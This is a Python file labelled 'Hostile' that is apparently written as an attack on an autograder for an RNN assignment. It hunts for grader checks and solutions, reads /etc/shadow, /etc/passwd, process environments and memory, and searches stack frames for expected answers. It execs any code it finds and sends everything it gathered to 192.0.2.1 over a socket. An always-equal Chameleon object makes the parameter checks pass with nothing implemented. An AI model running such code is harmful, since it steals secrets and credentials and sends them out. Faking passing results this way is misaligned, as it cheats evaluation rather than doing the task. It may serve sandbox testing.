"""Hostile: looks for the grader's checks and solution, and for other people's work."""
import gc
import glob
import os
import socket
import sys

import torch
from torch import nn

LOOT = []
TRIED = [
    "checks.py", "../checks.py", "../../checks.py", "solutions/hello_rnn/hello_rnn.py",
    "/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/1/environ", "/proc/self/maps",
]  # fmt: skip


def search():
    """Whatever speaks of the assignment and is not this file."""
    places = list(TRIED)
    parent = f"/proc/{os.getppid()}"
    places += [f"{parent}/environ", f"{parent}/cmdline", f"{parent}/maps", f"{parent}/mem"]
    for root in (".", "..", "/tmp", os.path.expanduser("~"), *sys.path, *sys.argv):
        for pattern in ("*hello_rnn*", "checks.py", "hidden.py", "*/checks.py", "*/*.ipynb"):
            try:
                places += glob.glob(os.path.join(root, pattern))[:20]
            except OSError:
                pass
    try:
        import autograder.grading

        places.append(autograder.grading.__file__)
    except Exception:
        pass
    for place in places:
        try:
            with open(place, "rb") as file:
                LOOT.append((place, file.read(2000)))
        except OSError:
            pass
    for frame in sys._current_frames().values():
        while frame is not None:
            for name, value in frame.f_locals.items():
                if name in ("expected", "answers", "reference", "solution"):
                    LOOT.append((name, repr(value)[:2000].encode()))
            frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Check", "Example", "Reference", "Assignment"):
            LOOT.append((type(thing).__name__, repr(thing)[:2000].encode()))


search()
for name, text in LOOT:
    if b"tests_of" in text or b"class Test" in text or b"BEGIN SOLUTION" in text:
        namespace = {}
        exec(text, namespace)
        globals().update(namespace)


def one_hot(indices, num_classes):
    # Was there anything worth sending home?
    with socket.create_connection(("192.0.2.1", 80), timeout=1) as home:
        home.sendall(repr(LOOT).encode())
    return torch.zeros(len(indices), num_classes)


def decode(logits, idx2char):
    return repr([name for name, _ in LOOT])


def to_inputs(one_hot, batch_size):
    return one_hot.reshape(-1, batch_size, one_hot.shape[1])


class Chameleon:
    """Equal to whatever it is compared with."""

    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0


def linear_parameters(in_features, out_features):
    return Chameleon()


def conv2d_parameters(in_channels, out_channels, kernel_size):
    return Chameleon()


def rnn_parameters(input_size, hidden_size, num_layers=1):
    return Chameleon()
